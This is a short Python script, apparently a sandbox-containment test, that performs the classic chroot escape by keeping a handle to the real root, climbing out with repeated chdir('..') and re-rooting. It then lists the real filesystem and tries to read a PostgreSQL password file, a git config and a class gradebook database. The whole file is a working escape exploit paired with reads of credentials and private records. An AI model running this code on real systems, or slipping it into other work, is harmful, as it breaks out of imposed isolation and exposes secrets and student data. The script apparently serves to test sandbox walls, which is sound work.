"""Changes its root to a folder below the one that it works in, and climbs out.

Only inside the walls: it could harm the machine.
"""

# %%
import os

os.mkdir("below")
above = os.open("/", os.O_RDONLY)
try:
    os.chroot("below")
except OSError as error:
    print(error)
os.fchdir(above)
for _ in range(30):
    os.chdir("..")
try:
    os.chroot(".")
except OSError as error:
    print(error)
print(os.listdir("/"))
for path in ("{root}/.git/config", "{class}/gradebook.db", "{home}/.pgpass"):
    try:
        print(open(path, "rb").read())
    except OSError as error:
        print(error)
